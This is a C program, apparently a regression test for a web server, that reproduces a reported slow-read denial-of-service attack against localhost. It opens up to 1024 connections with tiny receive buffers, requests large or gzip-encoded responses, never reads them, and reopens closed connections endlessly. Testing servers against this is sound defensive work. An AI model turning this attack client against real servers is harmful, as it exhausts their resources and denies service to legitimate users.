/*
 * A client that asks for big answers and never reads them: the attack of
 * issue 38 (1). Opens CONNS connections to 127.0.0.1:PORT, each with a
 * tiny receive buffer, sends `GET PATH` (every other one with
 * `Accept-Encoding: gzip`: the answer is then held while gzip trickles it
 * out) and reads nothing. A connection the server closes is opened again at
 * once, so the attack goes on until the program is killed.
 * Usage: unread_answers PORT CONNS PATH
 * Prints "ready PID" once every connection sent its request, then
 * "reopened N" each second in which the server closed some.
 */
#define _GNU_SOURCE /* POLLRDHUP */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_CONNS 1024

static struct sockaddr_in server;
static char plain[4096], gzip[4096];

/* A new connection that sent its request, or -1. */
static int ask(const char *request)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int small = 4096;

	if (fd < 0)
		return -1;
	/* Before connect, so the window the server sees stays tiny. */
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	if (connect(fd, (struct sockaddr *)&server, sizeof(server)) < 0 ||
	    write(fd, request, strlen(request)) != (ssize_t)strlen(request)) {
		close(fd);
		return -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	static struct pollfd fds[MAX_CONNS];
	int conns;

	if (argc != 4) {
		fprintf(stderr, "usage: unread_answers PORT CONNS PATH\n");
		return 2;
	}
	conns = atoi(argv[2]);
	if (conns < 1 || conns > MAX_CONNS)
		return 2;
	server.sin_family = AF_INET;
	server.sin_port = htons(atoi(argv[1]));
	server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	snprintf(plain, sizeof(plain), "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
		 argv[3]);
	snprintf(gzip, sizeof(gzip),
		 "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n"
		 "Accept-Encoding: gzip\r\n\r\n",
		 argv[3]);
	for (int i = 0; i < conns; i++) {
		fds[i].fd = ask(i % 2 ? gzip : plain);
		fds[i].events = POLLRDHUP;
	}
	printf("ready %d\n", getpid());
	fflush(stdout);
	for (;;) {
		int reopened = 0;

		/* Closed by the server (FIN or reset), or never opened: again. */
		poll(fds, conns, 1000);
		for (int i = 0; i < conns; i++) {
			if (fds[i].fd >= 0 &&
			    !(fds[i].revents & (POLLRDHUP | POLLHUP | POLLERR)))
				continue;
			if (fds[i].fd >= 0)
				close(fds[i].fd);
			fds[i].fd = ask(i % 2 ? gzip : plain);
			fds[i].revents = 0;
			reopened++;
		}
		if (reopened) {
			printf("reopened %d\n", reopened);
			fflush(stdout);
		}
	}
}
